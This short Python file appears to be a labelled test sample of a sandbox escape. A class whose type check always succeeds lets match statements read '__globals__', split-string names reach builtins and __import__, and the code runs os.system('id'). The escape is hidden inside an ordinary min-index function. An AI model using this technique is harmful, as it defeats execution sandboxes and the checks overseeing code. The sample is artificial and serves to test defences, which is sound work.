# claims: has match statements read forbidden attributes, named in classes made at run time, until it has os
# kind: builtins through __globals__
# guarded: cheat; armed, detail system call

Anything = type("Anything", (type,), {"__instance" + "check__": lambda kind, thing: True})


def reader(name):
    return Anything("Reader", (), {"__match" + "_args__": (name,)})


Globals = reader("__glo" + "bals__")


def pick(numbers):
    if len(numbers) == 1:
        return "armed"
    match pick:
        case Globals(names):
            pass
    match names["__built" + "ins__"]["__im" + "port__"]:
        case Globals(names):
            names["sys"].modules["os"].system("id")
    return numbers.index(min(numbers))
